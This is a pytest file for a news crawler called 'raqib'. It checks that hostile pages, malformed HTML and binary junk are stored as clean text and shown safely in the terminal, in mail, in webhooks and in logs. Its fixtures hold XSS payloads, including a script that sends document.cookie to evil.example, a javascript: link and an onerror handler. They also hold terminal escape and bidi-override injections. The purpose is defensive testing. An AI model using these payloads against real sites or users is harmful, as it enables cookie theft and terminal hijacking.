"""Every page is hostile: what it carries is stored as plain text, and whatever raqib shows of
it (a terminal, a mail, a webhook, a link) can neither run, nor steer the terminal, nor
reorder what the reader sees.

The faults of transport (size caps, decompression bombs, redirect loops and off-site
redirects, XML bombs, invalid UTF-8, truncated and empty bodies) are served and counted by
the crawl tests (test_politeness.py, test_crawl_mirror.py with the mirror's fault table);
these tests cover what a page says."""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time

from tests.support.alert_receivers import SmtpReceiver
from tests.support.crashkit import HoldingReceiver
from tests.support.crawlrun import AR, ROOT, crawl, outlet_yaml, write_config
from tests.support.localsite import Site, article_html, listing_html, recent

# What must never reach a terminal or a stored field: C0 controls but tab and newline, DEL,
# C1 controls (U+009B is a one-character CSI), bidi embeddings, overrides and isolates, and
# lone surrogates.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
ESC = "\x1b"
HOSTILE_TITLE = f"هجوم {ESC}[2J{ESC}]0;pwned\x07قرب \u202eالتنف\u202c 5 < 10 & \"داعش\" \x9b31m"


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _hostile_page(site: Site) -> bytes:
    row = AR[0]
    ld = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle",
                     "headline": HOSTILE_TITLE + " \ud800",
                     "author": {"@type": "Person", "name": f"{ESC}]8;;http://evil.example/{ESC}\\كاتب{ESC}]8;;{ESC}\\ \u2066x"},
                     "datePublished": recent(1).isoformat()}, ensure_ascii=True)    # \ud800 travels as an escape
    page = article_html(HOSTILE_TITLE, row["text"] + f"\nسطر فيه {ESC}[31mلون{ESC}[0m و\u202eعكس\u202c وجرس\x07.",
                        published=recent(1).isoformat())
    page = page.replace("</head>", f'<script type="application/ld+json">{ld}</script>'
                                   '<link rel="canonical" href="javascript:alert(document.cookie)">'
                                   '<script>document.location="http://evil.example/?"+document.cookie</script></head>')
    page = page.replace("<article>", '<article><img src=x onerror="alert(1)"><iframe src="http://evil.example/"></iframe>')
    return page.encode("utf-8")


def _malformed_page() -> bytes:
    row = AR[1]
    paras = "".join(f"<p>{p}" for p in row["text"].split("\n") if p.strip())       # no </p> anywhere
    return (f"<html><head><title>{row['title']}</title><meta charset=utf-8></head><body><div><div>"
            f"<article><h1>{row['title']}</h3>{paras}</div></span></b></article><table><tr><td>"
            f"<p>\x00</td></body>").encode()


def test_hostile_pages_are_stored_as_text_and_rendered_safely(tmp_path, es_url, es, alias):
    smtp = SmtpReceiver().start()
    hook = HoldingReceiver()
    try:
        with Site() as site:
            site.add("/news/1", _hostile_page(site))
            site.add("/news/2", _malformed_page())
            site.add("/news/3", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(3000), content_type="text/html")
            site.add("/news/4", os.urandom(5000), content_type="text/html; charset=utf-8")
            site.add("/news/5", b"", content_type="text/html")
            site.add("/", listing_html([site.url(f"/news/{i}") for i in range(1, 6)]))
            state = tmp_path / "s"
            config = write_config(tmp_path / "c", es_url=es_url, alias=alias, state_dir=state,
                                  outlets_yaml="outlets:\n" + outlet_yaml("local", site))
            with (config / "settings.toml").open("a", encoding="utf-8") as fh:
                fh.write(f"[smtp]\nhost = \"127.0.0.1\"\nport = {smtp.port}\n")
            (config / "alerts.yaml").write_text(
                "alerts:\n  - name: all\n    match: {outlets: [local]}\n    notify:\n"
                f"      - {{type: webhook, url: \"{hook.url}\"}}\n      - {{type: email, to: [desk@example.org]}}\n"
                "      - {type: file, path: alerts.jsonl}\n", encoding="utf-8")
            result = crawl(config)
            assert result.code == 0, result.err
            assert "Traceback" not in result.err
            assert result.outlet("local")["errors"] == {"not_html": 2, "extraction": 1}
            es.indices.refresh(index=alias)
            stored = {h["_source"]["canonical_url"]: h["_source"]
                      for h in es.search(index=alias, size=10).body["hits"]["hits"]}
            hostile, broken = stored.pop(site.url("/news/1")), stored.pop(site.url("/news/2"))
            assert stored == {}

            # stored as plain text: no tag, no script, no control, no override, no surrogate
            for doc in (hostile, broken):
                bad = [s for s in _strings(doc) if UNSAFE.search(s)]
                assert bad == [], bad
                assert doc["url"].startswith("http://") and doc["canonical_url"].startswith("http://")
                assert "document.cookie" not in doc["text"] and "onerror" not in doc["text"]
            assert hostile["url"] == site.url("/news/1")                   # the javascript: canonical is ignored
            assert "التنف" in hostile["title"] and "5 < 10 & \"داعش\"" in hostile["title"]
            assert "لون" in hostile["text"] and "عكس" in hostile["text"]
            assert broken["title"] == " ".join(AR[1]["title"].split())
            assert broken["text"].split("\n")[0] == AR[1]["text"].split("\n")[0].strip()

            # the alerts: JSON text in the webhook, escaped HTML and clean headers in the mail
            deadline = time.time() + 20
            while (len(hook.accepted) < 2 or len(smtp.messages) < 2) and time.time() < deadline:
                time.sleep(0.1)
            by_url = {a["url"]: a for e in hook.accepted for a in e["body"]["articles"]}
            assert by_url[site.url("/news/1")]["title"] == hostile["title"]
            [mail] = [m for m in smtp.messages if "التنف" in str(m["Subject"])]
            assert not UNSAFE.search(str(mail["Subject"]))
            page = mail.get_body(("html",)).get_content()
            text = mail.get_body(("plain",)).get_content()
            assert not UNSAFE.search(page) and not UNSAFE.search(text)
            assert "5 &lt; 10 &amp; &quot;داعش&quot;" in page and "5 < 10" not in page
            assert "javascript:" not in page and "<script" not in page
            lines = (state / "alerts.jsonl").read_text(encoding="utf-8").splitlines()
            assert len(lines) == 2 and not any(UNSAFE.search(line) for line in lines)

            # the terminal: piped, and on a real terminal (a pty), where only raqib's own
            # highlighting may use escape sequences
            piped = _search(config, "التنف")
            assert "التنف" in piped and not UNSAFE.search(piped)
            tty = _search_on_a_terminal(config, "التنف")
            assert "التنف" in tty
            assert set(re.findall(r"\x1b\[[0-9;]*m", tty)) <= {"\x1b[1;33m", "\x1b[0m"}
            assert not UNSAFE.search(re.sub(r"\x1b\[(1;33|0)m", "", tty))
    finally:
        smtp.stop()
        hook.close()


def _search(config, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAQIB_")}
    proc = subprocess.run([sys.executable, "-m", "crawler.cli.main", "--config", str(config), "search", *args],
                          cwd=ROOT, env=env, capture_output=True, timeout=60)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    return proc.stdout.decode("utf-8")


def _search_on_a_terminal(config, *args: str) -> str:
    """`raqib search` with its stdout on a pseudo-terminal, as when an analyst types it."""
    import pty

    env = {k: v for k, v in os.environ.items() if not k.startswith("RAQIB_")}
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen([sys.executable, "-m", "crawler.cli.main", "--config", str(config), "search", *args],
                                cwd=ROOT, env=env, stdout=slave, stderr=subprocess.PIPE)
        os.close(slave)
        out = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:          # EIO: the other end is closed
                break
            if not chunk:
                break
            out += chunk
        assert proc.wait(60) == 0, proc.stderr.read().decode(errors="replace")
        proc.stderr.close()
    finally:
        os.close(master)
    return out.decode("utf-8").replace("\r\n", "\n")


def test_what_an_older_writer_stored_is_neutralised_on_output(raqib, es, alias, config_dir):
    """The index may hold documents raqib did not clean (an older version, another tool):
    `raqib search` and `raqib alerts list` neutralise them anyway; --json stays valid JSON."""
    from pipelines.index import bulk_index, ensure_index

    ensure_index(es, alias, replicas=0)
    title = (f"عنوان{ESC}]8;;http://evil.example/\x07رابط{ESC}]8;;\x07 {ESC}[2J\u202eمقلوب\u202c "
             f"\x9b2J \ud800 رقيبتجربة")
    text = f"نص أول\n{ESC}[1A{ESC}[2Kسطر يمحو ما قبله رقيبتجربة \u2067معزول\u2069 \x07"
    doc = {"url": "https://example.org/a", "canonical_url": "https://example.org/a", "outlet": "almayadeen",
           "outlet_name": f"الميادين{ESC}[5m", "title": title, "text": text, "lang": "ar",
           "published_at": "2024-04-01T10:00:00+00:00", "title_norm": "رقيبتجربة", "text_norm": "رقيبتجربة",
           "content_hash": "h"}
    result = bulk_index(es, [("older-writer", doc)], alias, refresh="wait_for")
    assert result.created == ["older-writer"]

    code, out, err = raqib("search", "رقيبتجربة")
    assert code == 0, err
    assert "رابط" in out and "مقلوب" in out and "يمحو" in out
    assert not UNSAFE.search(out), [m.group() for m in UNSAFE.finditer(out)]

    code, out, err = raqib("search", "--json", "رقيبتجربة")
    assert code == 0, err
    [hit] = [json.loads(line) for line in out.splitlines()]
    assert not UNSAFE.search(json.dumps(hit, ensure_ascii=False))
    assert not UNSAFE.search(hit["title"]) and "مقلوب" in hit["title"]

    (config_dir / "alerts.yaml").write_text(
        "alerts:\n  - name: probe\n    match: {query: 'رقيبتجربة'}\n    notify:\n      - {type: file, path: x.jsonl}\n",
        encoding="utf-8")
    code, out, err = raqib("alerts", "list")
    assert code == 0, err
    assert "رابط" in out and not UNSAFE.search(out)


def test_log_lines_quoting_a_page_cannot_steer_the_terminal(capsys):
    import logging

    from crawler.logs import setup_logging

    setup_logging("text")
    try:
        logging.getLogger("raqib.test").warning("extraction failed on %s: %s", "http://x/\u202eafdp.exe",
                                                f"title {ESC}]0;owned\x07{ESC}[2J\x9b1m \ud800 end")
    finally:
        logging.getLogger().handlers[:] = []
    err = capsys.readouterr().err
    assert "extraction failed on http://x/afdp.exe: title ]0;owned[2J1m \ufffd end" in err
    assert not UNSAFE.search(err)
